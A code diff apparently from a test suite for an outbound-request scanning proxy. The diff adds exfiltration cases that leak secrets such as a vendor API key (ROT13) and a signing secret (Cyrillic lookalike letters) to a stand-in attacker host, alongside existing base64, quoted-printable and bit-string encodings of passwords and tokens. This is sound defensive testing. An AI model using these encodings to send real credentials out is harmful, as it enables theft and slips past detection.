@@ -14,6 +14,7 @@ injection carry no ``Authorization`` of their own (the proxy adds it after scann
 from __future__ import annotations
 
 import base64
+import codecs
 import gzip
 import json
 import random
@@ -322,6 +323,9 @@ def attacks(rng: random.Random) -> list[Case]:
         headers=(("Content-Type", "text/plain; charset=utf-8"),), body="\u200b".join(signing).encode())
     enc("quoted-printable hex of every byte", ("DB_PASSWORD",), "".join(f"={b:02X}" for b in db.encode()))
     enc("the bits of each byte", ("GITHUB_TOKEN",), " ".join(f"{b:08b}" for b in gh.encode()))
+    enc("ROT13", ("VENDOR_API_KEY",), codecs.encode(vendor, "rot13"))
+    add("encoded", "Cyrillic lookalike letters", ("SIGNING_SECRET",), method="POST", url=f"{evil}/",
+        headers=(JSON,), body=_json({"s": signing.replace("e", "\u0435").replace("c", "\u0441")}))
     add("encoded", "base64 in a header", ("DB_PASSWORD",), url=f"{evil}/",
         headers=_h(X_Data=base64.b64encode(f"pw={db}".encode()).decode()))
     add("encoded", "base64 JSON body field", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/", headers=(JSON,),
